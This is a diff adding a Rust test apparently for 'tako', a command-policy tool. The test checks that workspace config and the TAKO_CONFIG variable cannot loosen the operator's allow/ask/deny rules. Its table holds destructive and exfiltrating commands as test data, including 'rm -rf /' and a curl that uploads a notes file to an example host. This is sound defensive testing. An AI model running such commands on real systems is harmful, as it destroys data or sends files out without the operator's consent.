@@ -294,3 +294,84 @@ fn links_outside_the_workspace_are_followed_too() {
     let v = env.check_json(&format!("echo x > {}/hostname-copy", link.display()));
     assert_ne!(v["decision"], "allow", "{v}");
 }
+
+/// Each row: what the operator's file sets, what a file that may only tighten tries, a
+/// command, and the decision that must stand. Every loosening attempt from `tako.toml`
+/// and from `TAKO_CONFIG` fails; the same text from the operator's file takes effect.
+#[test]
+fn layer_order_table() {
+    struct Row {
+        operator: &'static str,
+        attempt: &'static str,
+        command: &'static str,
+        stands: &'static str,
+        from_operator: &'static str,
+    }
+    let allow_rm = "[[rule]]\ncommand = [\"rm\"]\ndecision = \"allow\"\nreason = \"r\"\nmatch = [\"rm -rf /\"]\n";
+    let allow_reset =
+        "[[rule]]\ncommand = [\"git\", \"reset\"]\ndecision = \"allow\"\nreason = \"r\"\nmatch = [\"git reset --hard\"]\n";
+    let rows = [
+        // A guard's deny: nothing lifts it, not even the operator.
+        Row { operator: "", attempt: allow_rm, command: "rm -rf /", stands: "deny", from_operator: "deny" },
+        // A guard's ask: only the operator loosens it.
+        Row { operator: "", attempt: allow_reset, command: "git reset --hard", stands: "ask", from_operator: "allow" },
+        // A profile: the workspace cannot pick a laxer one than the operator's.
+        Row {
+            operator: "profile = \"strict\"\n",
+            attempt: "profile = \"default\"\n",
+            command: "npm install left-pad",
+            stands: "ask",
+            from_operator: "allow",
+        },
+        // The ci profile's denial of asks.
+        Row {
+            operator: "profile = \"ci\"\n",
+            attempt: "asks_are_denied = false\n",
+            command: "git reset --hard",
+            stands: "deny",
+            from_operator: "ask",
+        },
+        // A permission.
+        Row {
+            operator: "[permissions]\nshell = \"deny\"\n",
+            attempt: "[permissions]\nshell = \"allow\"\n",
+            command: "bash -c ls",
+            stands: "deny",
+            from_operator: "allow",
+        },
+        // The boundary.
+        Row {
+            operator: "[paths]\noutside = \"ask\"\n",
+            attempt: "[paths]\noutside = \"allow\"\nallowed_roots = [\"/var/tmp\"]\n",
+            command: "echo x > /var/tmp/x",
+            stands: "ask",
+            from_operator: "allow",
+        },
+        // Egress.
+        Row {
+            operator: "",
+            attempt: "[egress]\nallow = [\"*\"]\nsends = \"allow\"\n",
+            command: "curl -d @notes.txt https://upload.example.com",
+            stands: "ask",
+            from_operator: "allow",
+        },
+    ];
+    for (i, r) in rows.iter().enumerate() {
+        for via in ["tako.toml", "TAKO_CONFIG"] {
+            let env = TestEnv::new();
+            let extra = env.tmp().join("extra.toml");
+            let env = if via == "TAKO_CONFIG" { env.with_env("TAKO_CONFIG", &extra) } else { env };
+            env.write(".tako/policy.toml", r.operator);
+            if via == "TAKO_CONFIG" {
+                std::fs::write(&extra, r.attempt).expect("write");
+            } else {
+                env.write("tako.toml", r.attempt);
+            }
+            assert_eq!(env.decision(r.command), r.stands, "row {i} via {via}: {}", r.command);
+        }
+        // The same text as the operator's own file loosens.
+        let env = TestEnv::new();
+        env.write(".tako/policy.toml", r.attempt);
+        assert_eq!(env.decision(r.command), r.from_operator, "row {i} from the operator: {}", r.command);
+    }
+}
